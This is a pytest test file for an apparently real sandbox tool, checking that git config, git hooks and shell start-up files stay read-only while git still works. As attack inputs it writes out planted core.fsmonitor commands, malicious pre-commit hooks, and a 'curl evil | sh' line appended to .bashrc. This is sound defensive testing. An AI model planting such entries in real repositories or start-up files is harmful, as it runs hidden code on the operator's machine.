"""Protected paths (fs.protect, fs.protect_defaults): readable, never writable, even inside a
write root — and git inside the cage still works (issue #7, ADR 0013).

Every attack is checked from the host side (bytes, mode, mtime of the protected file). Where
the cage has a mount namespace binding the protected paths read-only, the default set (.git/config,
.git/hooks, start-up files) is enforced; where it has none, the default set cannot be enforced
without stopping git (Landlock cannot keep `.git` open for new files and its config closed), so
the cage must say so in `degraded` — both cases are tested, whichever this machine gives.
"""

from __future__ import annotations

import json
import os
import subprocess

import pytest
from userkit import as_user

pytestmark = pytest.mark.needs_kernel


@pytest.fixture(params=["tier", "landlock-only"])
def namespaces(request, monkeypatch):
    """Each protected-path test runs with the namespace tier (where this kernel allows it) and
    with it forced off, as where the kernel refuses namespaces."""
    if request.param == "landlock-only":
        monkeypatch.setenv("SANDBOY_NAMESPACES", "0")
    return request.param

GIT_ENV = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.org", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@example.org", "GIT_CONFIG_NOSYSTEM": "1"}


def _snapshot(path):
    st = os.lstat(path)
    data = open(path, "rb").read() if os.path.isfile(path) else sorted(os.listdir(path))
    return data, st.st_mode, st.st_mtime_ns, st.st_ino


def _git_policy(cage, **fs):
    return cage.policy(fs={"read": ["/etc", "/proc/self"], "exec": ["/usr/bin", "/bin", "/usr/lib/git-core"],
                           "write": ["."], **fs},
                       env={"pass": [], "set": {"PATH": "/usr/bin:/bin", "HOME": str(cage.work), **GIT_ENV}})


def _host_git(repo, *args):
    return subprocess.run(["git", "-c", "safe.directory=*", "-C", str(repo), *args], check=True, capture_output=True, text=True,
                          env={**os.environ, **GIT_ENV}).stdout


def _by_mount(cage, policy) -> bool:
    from sandboy.confine import namespaces

    by = _report(cage, policy)[0]["enforced"]["landlock"]["fs_protected_by"]
    assert by.startswith("mount") == (namespaces.availability()[0]), by
    return by.startswith("mount")


def _report(cage, policy):
    from sandboy import Policy
    from sandboy.confine import cage as cagemod

    built = cagemod.build(Policy.from_mapping(policy, "<test>"), cwd=str(cage.work))
    try:
        return built.report(), built.protected
    finally:
        built.close()


# --- fs.protect: named paths ----------------------------------------------------------------


@pytest.mark.parametrize("via", ["api", "cli"])
def test_protected_file_inside_a_write_root_cannot_be_changed(cage, via, namespaces):
    (cage.work / "conf").mkdir()
    target = cage.work / "conf" / "settings.ini"
    target.write_text("safe = 1\n")
    os.chmod(target, 0o644)
    before = _snapshot(target)
    policy = cage.policy(fs={"write": ["."], "protect": ["conf/settings.ini"]})
    for attack in (["write", target], ["open-trunc", target], ["truncate", target], ["unlink", target],
                   ["rename", target, cage.work / "moved"]):
        # (metadata — chmod, chown — is not mediated by Landlock; a read-only mount stops it,
        # which the namespace tier's own probes cover)
        r = cage.run(*attack, policy=policy, via=via)
        assert not r.ok, (attack, r)
    if _by_mount(cage, policy):  # metadata too: a read-only mount refuses chown/chmod (EROFS)
        assert cage.run("chown", target, os.getuid(), policy=policy, via=via).out == "EROFS"
    assert _snapshot(target) == before and not (cage.work / "moved").exists()
    # twin: the file is still readable, and its writable siblings and the rest of the root too
    assert cage.run("read", target, policy=policy, via=via).out == "ok safe = 1"
    (cage.work / "conf" / "other").write_text("")
    assert cage.run("write", cage.work / "conf" / "other", policy=policy, via=via).ok
    (cage.work / "data").mkdir()
    assert cage.run("create", cage.work / "data" / "new", policy=policy, via=via).ok


def test_protected_directory_takes_no_new_file_and_no_replacement(cage, namespaces):
    hooks = cage.work / "hooks"
    hooks.mkdir()
    (hooks / "existing").write_text("#!/bin/sh\n")
    before = _snapshot(hooks)
    policy = cage.policy(fs={"write": ["."], "protect": ["hooks"]})
    assert not cage.run("create", hooks / "pre-commit", policy=policy).ok
    assert not cage.run("write", hooks / "existing", policy=policy).ok
    assert not cage.run("rename", hooks, cage.work / "hooks-old", policy=policy).ok
    assert not cage.run("mkdir", hooks / "sub", policy=policy).ok
    assert _snapshot(hooks) == before and not (hooks / "pre-commit").exists()
    assert (hooks / "existing").read_text() == "#!/bin/sh\n"
    assert cage.run("ls", hooks, policy=policy).ok  # twin: still readable


def test_a_write_grant_on_a_protected_path_stays_read_only(cage, namespaces):
    """`protect` wins over `write`, even when the write grant names the path itself."""
    target = cage.work / "keep"
    target.write_text("k")
    policy = cage.policy(fs={"write": [".", "keep"], "protect": ["keep"]})
    assert not cage.run("write", target, policy=policy).ok
    assert target.read_text() == "k"


def test_a_missing_protected_path_is_reported_and_refused_under_strict(cage, namespaces):
    from sandboy import Policy
    from sandboy.confine import cage as cagemod
    from sandboy.errors import PolicyError

    policy = cage.policy(fs={"write": ["."], "protect": ["not-there"]})
    report, _ = _report(cage, policy)
    assert any("fs.protect" in w and "not-there" in w for w in report["warnings"])
    strict = dict(policy, compat={"landlock": "strict"})
    with pytest.raises(PolicyError, match="fs.protect"):
        cagemod.build(Policy.from_mapping(strict, "<test>"), cwd=str(cage.work))


# --- the default set ----------------------------------------------------------------------------


def _repo_with_hooks(root):
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    (root / ".git" / "hooks").mkdir(exist_ok=True)
    (root / "README").write_text("hello\n")
    _host_git(root, "add", "README")
    _host_git(root, "commit", "-qm", "first")


def test_default_set_is_resolved_in_each_write_root(cage, namespaces):
    _repo_with_hooks(cage.work)
    (cage.work / ".bashrc").write_text("# host start-up file\n")
    report, protected = _report(cage, _git_policy(cage))
    work = os.path.realpath(cage.work)
    assert f"{work}/.git/config" in protected and f"{work}/.git/hooks" in protected
    assert f"{work}/.bashrc" in protected and f"{work}/.git" not in protected
    assert f"{work}/.zshrc" not in protected  # only what exists at launch
    off, none = _report(cage, _git_policy(cage, protect_defaults=False))
    assert none == () and not any("protect_defaults" in d for d in off["degraded"])


def test_git_config_and_hooks_cannot_be_planted(cage, namespaces):
    """The attack of issue #7 item 5: a step appends core.fsmonitor to .git/config and writes
    .git/hooks/pre-commit, for the operator's next git command to run."""
    _repo_with_hooks(cage.work)
    config, hooks = cage.work / ".git" / "config", cage.work / ".git" / "hooks"
    before = (_snapshot(config), _snapshot(hooks))
    report, _ = _report(cage, _git_policy(cage))
    attack = ("printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config; "
              "printf '#!/bin/sh\\nid\\n' > .git/hooks/pre-commit; chmod 755 .git/hooks/pre-commit; "
              "git config core.hooksPath /tmp; exit 0")
    r = cage.run(argv=["/bin/sh", "-c", attack], policy=_git_policy(cage))
    if _by_mount(cage, _git_policy(cage)):
        assert (_snapshot(config), _snapshot(hooks)) == before, r
        assert not (hooks / "pre-commit").exists()
        assert "fsmonitor" not in config.read_text() and "hooksPath" not in config.read_text()
    else:
        # No mount namespace: Landlock alone cannot keep .git writable for git and its config
        # read-only, so the cage must name exactly what stays open.
        degraded = [d for d in report["degraded"] if d.startswith("fs.protect_defaults")]
        assert degraded and ".git/config" in degraded[0] and ".git/hooks" in degraded[0], report
        pytest.skip("no mount namespace in this cage: the default set is reported degraded (asserted above)")


def test_strict_refuses_when_the_default_set_cannot_be_enforced(cage, namespaces):
    _repo_with_hooks(cage.work)
    report, _ = _report(cage, _git_policy(cage))
    if report["enforced"]["landlock"]["fs_protected_by"].startswith("mount"):
        pytest.skip("the mount namespace enforces the default set here")
    from sandboy import Policy
    from sandboy.confine import cage as cagemod
    from sandboy.errors import CageError

    strict = dict(_git_policy(cage), compat={"landlock": "strict"})
    with pytest.raises(CageError, match="protect_defaults"):
        cagemod.build(Policy.from_mapping(strict, "<test>"), cwd=str(cage.work))


# --- twins: git keeps working inside the cage ------------------------------------------------


def test_git_init_add_commit_branch_checkout_clone_inside_the_cage(cage, namespaces):
    _repo_with_hooks(cage.work)
    (cage.work / "origin").mkdir()
    _repo_with_hooks(cage.work / "origin")
    script = """set -e
echo change >> README
git add README
git commit -qm second
git branch topic
git checkout -q -b feature
echo f > f.txt && git add f.txt && git commit -qm third
git checkout -q topic
git init -q fresh && cd fresh && echo x > x && git add x && git commit -qm init && cd ..
git clone -q origin cloned
echo done
"""
    r = cage.run(argv=["/bin/sh", "-c", script], policy=_git_policy(cage))
    assert r.rc == 0 and r.out.endswith("done"), r
    # checked on the host
    assert _host_git(cage.work, "log", "--format=%s", "feature").split() == ["third", "second", "first"]
    assert _host_git(cage.work, "rev-parse", "--abbrev-ref", "HEAD").strip() == "topic"
    assert _host_git(cage.work / "fresh", "log", "--format=%s").strip() == "init"
    assert (cage.work / "cloned" / "README").read_text() == "hello\n"
    assert _host_git(cage.work, "status", "--porcelain", "--untracked-files=no").strip() == ""


def test_status_json_names_the_protected_paths(cage, namespaces):
    _repo_with_hooks(cage.work)
    status = cage.root / "status.json"
    r = cage.cli(["--status-json", str(status), "--", "/bin/true"], _git_policy(cage, protect=["README"]))
    assert r.rc == 0, r
    doc = json.loads(status.read_text())
    landlock = doc["enforced"]["landlock"]
    work = os.path.realpath(cage.work)
    if landlock["fs_protected_by"].startswith("mount"):
        assert f"{work}/.git/config" in landlock["fs_protected"]
    else:
        assert landlock["fs_protected"] == [f"{work}/README"]


def test_missing_hooks_directory_is_made_and_protected_before_the_command(cage, namespaces):
    """Git runs `.git/hooks/*` whether or not the directory existed: a repository without one
    must not let the command create it."""
    _repo_with_hooks(cage.work)
    import shutil

    shutil.rmtree(cage.work / ".git" / "hooks")
    _, protected = _report(cage, _git_policy(cage))
    hooks = cage.work / ".git" / "hooks"
    assert hooks.is_dir() and os.listdir(hooks) == []
    assert os.stat(hooks).st_uid == os.stat(cage.work / ".git").st_uid
    assert f"{os.path.realpath(cage.work)}/.git/hooks" in protected


# --- as an ordinary user, for real (docs/findings.md, "Testing as an ordinary user") -----------------

NOBODY = 65534


@pytest.fixture
def as_nobody():
    """A git repository owned by uid 65534 in a world-readable tree, and `sandboy run` as that
    user with no capabilities, from the system python3 over this source tree."""
    import shutil
    import sys

    if os.geteuid() != 0 or not shutil.which("setpriv"):
        pytest.skip("needs root and setpriv to become uid 65534")
    sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
    from userkit import world_readable_tmp

    with world_readable_tmp("sandboy-protect-") as tmp:
        yield from _as_nobody(tmp)


def _as_nobody(tmp_path):
    import sys

    base = tmp_path / "nobody"
    repo = base / "repo"
    base.mkdir()
    _repo_with_hooks(repo)
    (repo / ".bashrc").write_text("# start-up file\n")
    subprocess.run(["chown", "-R", f"{NOBODY}:{NOBODY}", str(base)], check=True)
    src = os.path.dirname(os.path.dirname(os.path.abspath(sys.modules["sandboy"].__file__)))
    from cagekit import to_toml

    policy = base / "policy.toml"
    policy.write_text(to_toml({"version": 1, "fs": {"read": ["/usr", "/lib", "/lib64", "/etc"],
                                                    "exec": ["/usr/bin", "/bin", "/usr/lib/git-core"],
                                                    "write": [str(repo)]},
                               "env": {"pass": [], "set": {"PATH": "/usr/bin:/bin", "HOME": str(repo),
                                                           **GIT_ENV}}}))
    os.chmod(policy, 0o644)

    def run(script: str, env=None):
        argv = as_user(["/usr/bin/python3", "-m", "sandboy", "run", "--policy", str(policy), "--", "/bin/sh", "-c",
                        script])
        return subprocess.run(argv, capture_output=True, text=True, cwd=repo, timeout=60,
                              env={"PATH": "/usr/bin:/bin", "PYTHONPATH": src, "HOME": str(base),
                                   "SANDBOY_CACHE_DIR": str(base / "cache"), **(env or {})})

    if run("true").returncode != 0:
        pytest.skip("the system python3 cannot run sandboy from this tree as uid 65534")
    yield repo, run


PLANT_ALL = ("printf '[core]\\n\\tfsmonitor = touch /tmp/x\\n' >> .git/config; "
             "printf '#!/bin/sh\\nid\\n' > .git/hooks/pre-commit; echo 'curl evil | sh' >> .bashrc; exit 0")


def test_as_an_ordinary_user_protected_paths_hold_and_git_works(as_nobody):
    from sandboy.confine import namespaces as ns

    if not ns.availability()[0]:
        pytest.skip("no namespace tier on this machine")
    repo, run = as_nobody
    before = [(repo / p).read_bytes() for p in (".git/config", ".bashrc")]
    r = run(PLANT_ALL)
    assert r.returncode == 0, r.stderr
    assert [(repo / p).read_bytes() for p in (".git/config", ".bashrc")] == before
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
    # twin: git as that user inside the cage
    r = run("echo two >> README && git add README && git commit -qm second && git checkout -q -b b2 && echo ok")
    assert r.returncode == 0 and r.stdout.strip() == "ok", r.stderr
    assert _host_git(repo, "log", "--format=%s", "b2").split() == ["second", "first"]


def test_as_an_ordinary_user_without_the_tier_the_gap_is_reported(as_nobody):
    """The twin that shows the mount is what refuses: forced off, the same attack gets through
    — and the run said so beforehand, path by path. For git, the post-run check (ADR 0019)
    then finds what was planted, puts the config back and fails the run; `.bashrc` stays
    written (no check covers start-up files: the degraded list said so)."""
    repo, run = as_nobody
    before = (repo / ".git" / "config").read_bytes()
    r = run(PLANT_ALL.replace("exit 0", "grep -c fsmonitor .git/config"), env={"SANDBOY_NAMESPACES": "0"})
    assert r.stdout.strip() == "1", r  # written during the run
    assert r.returncode == 125, r.stderr
    assert "fs.protect_defaults" in r.stderr and ".git/config" in r.stderr, r.stderr
    assert "left code for the host's next git command" in r.stderr, r.stderr
    assert (repo / ".git" / "config").read_bytes() == before
    # written without the x bit: git would not run it, but a hook may source it — every file a
    # run makes in a hooks directory is quarantined (ADR 0019, session 5)
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
    assert "curl evil" in (repo / ".bashrc").read_text()


@pytest.mark.parametrize("tier", ["tier", "no-tier"])
@pytest.mark.parametrize("attack", ["commondir", "submodule"])
def test_as_an_ordinary_user_planted_git_config_is_quarantined(as_nobody, tmp_path, tier, attack):
    """The post-run check runs in the parent as that user (no capabilities): it still finds and
    moves what the cage planted (tests/cage/test_git_planted.py for root)."""
    from sandboy.confine import namespaces as ns

    if tier == "tier" and not ns.availability()[0]:
        pytest.skip("no namespace tier on this machine")
    repo, run = as_nobody
    marker = tmp_path / "PWNED"
    fsmonitor = f'[core]\\n\\tfsmonitor = "touch {marker}; false"\\n'
    script = {"commondir": f"mkdir evil && cp -r .git/objects .git/refs evil/ && printf '{fsmonitor}' > evil/config "
                           "&& echo ../evil > .git/commondir",
              "submodule": f"git init -q sub && git -C sub commit -q --allow-empty -m s && printf '{fsmonitor}' "
                           ">> sub/.git/config && git update-index --add --cacheinfo "
                           "160000,$(git -C sub rev-parse HEAD),sub"}[attack]
    r = run(script + " && echo PLANTED", env={"SANDBOY_NAMESPACES": "0"} if tier == "no-tier" else None)
    assert "PLANTED" in r.stdout and r.returncode == 125, r
    assert (repo / ".sandboy-quarantine").is_dir()
    assert os.stat(repo / ".sandboy-quarantine").st_uid == NOBODY
    _host_git(repo, "status")
    assert not marker.exists()


def test_a_reused_cage_is_rebuilt_when_a_start_up_file_appears(cage, namespaces):
    """`sandboy.run` in a loop reuses a compiled cage while a rebuild would give the same one:
    a start-up file made since must make it rebuild (and protect the file)."""
    from sandboy import Policy
    from sandboy.confine import reuse

    policy = Policy.from_mapping(cage.policy(fs={"write": ["."]}), "<test>")
    first, owned = reuse.for_run(policy, cwd=str(cage.work))
    try:
        assert first.still_valid() and first.protected == ()
        (cage.work / "notes.txt").write_text("")  # an ordinary new file changes nothing
        assert first.still_valid()
        (cage.work / ".bashrc").write_text("# new\n")
        assert not first.still_valid()
        second, owned_second = reuse.for_run(policy, cwd=str(cage.work))
        assert second is not first and second.protected == (f"{os.path.realpath(cage.work)}/.bashrc",)
        if owned_second:
            second.close()
    finally:
        if owned:
            first.close()


@pytest.mark.parametrize("tier", ["tier", "no-tier"])
def test_as_an_ordinary_user_a_repository_planted_where_none_was_is_quarantined(as_nobody, tmp_path, tier):
    """(ADR 0019, session 5) The write root holds no repository at launch; the command, uid
    65534 like its parent, makes one with a planted `core.fsmonitor`. The parent (no
    capabilities) walks the root all the same: 125, quarantined; the operator's git runs nothing."""
    import shutil

    from sandboy.confine import namespaces as ns

    if tier == "tier" and not ns.availability()[0]:
        pytest.skip("no namespace tier on this machine")
    repo, run = as_nobody
    shutil.rmtree(repo / ".git")
    marker = tmp_path / "PWNED"
    fsmonitor = f'[core]\\n\\tfsmonitor = "touch {marker}; false"\\n'
    r = run(f"mkdir -p a/b && git init -q a/b/r && printf '{fsmonitor}' >> a/b/r/.git/config && echo PLANTED",
            env={"SANDBOY_NAMESPACES": "0"} if tier == "no-tier" else None)
    assert "PLANTED" in r.stdout and r.returncode == 125, r
    assert os.stat(repo / ".sandboy-quarantine").st_uid == NOBODY
    _host_git(repo / "a" / "b" / "r", "status")
    assert not marker.exists()


def test_thousands_of_protected_paths_are_resolved_in_linear_time(tmp_path):
    """A step policy's fs.protect may list thousands of paths (a 1 MiB file: ≈ 30,000): each was
    looked for in the list of those kept so far — 30,000 paths took 5 s of CPU, twice per
    launch, before the command ran. Same answer: first occurrence kept, in order, duplicates
    dropped."""
    import time

    from sandboy.confine.protected import resolve_protected

    for i in range(45000):
        (tmp_path / f"f{i}").write_text("")
    os.symlink("f7", tmp_path / "link7")  # reaches f7 again, through a link inside the root
    explicit = [f"{tmp_path}/f{i}" for i in range(45000)] + [f"{tmp_path}/f5", f"{tmp_path}/link7",
                                                             f"{tmp_path}/missing"]
    started = time.process_time()
    from_defaults, from_policy = resolve_protected([str(tmp_path)], explicit, defaults=False)
    assert time.process_time() - started < 5  # CPU time: ≈ 1.5 s; the quadratic one: ≈ 11 s here
    assert from_policy == [f"{tmp_path}/f{i}" for i in range(45000)]
    assert from_defaults == [f"{tmp_path}/link7"]  # the link on the way, named with the defaults


def test_realpath_and_links_is_realpath_and_the_links_on_the_way(tmp_path, monkeypatch):
    """`protected.realpath_and_links` (session 10: one walk where no symlink is on the way) answers
    as `os.path.realpath` and `symlinks_on_the_way` do, for links, dangling links, `..` after a
    link or a missing component, relative paths, `//`."""
    import os

    from sandboy.confine.protected import realpath_and_links, symlinks_on_the_way

    (tmp_path / "a" / "b").mkdir(parents=True)
    os.symlink("a", tmp_path / "l")
    os.symlink("/nonexistent/x", tmp_path / "dangling")
    os.symlink("b/..", tmp_path / "a" / "up")
    monkeypatch.chdir(tmp_path)
    for path in ("//tmp", "/", "/usr//lib/", ".", "l/b", "a/b/..", f"{tmp_path}/a/b/../b", f"{tmp_path}/l/b",
                 f"{tmp_path}/l/../a", f"{tmp_path}/dangling/y", f"{tmp_path}/a/missing/../b", f"{tmp_path}/a/up/b",
                 "/bin/../etc", "/proc/self/cwd/a"):
        assert realpath_and_links(path) == (os.path.realpath(path), symlinks_on_the_way(path)), path
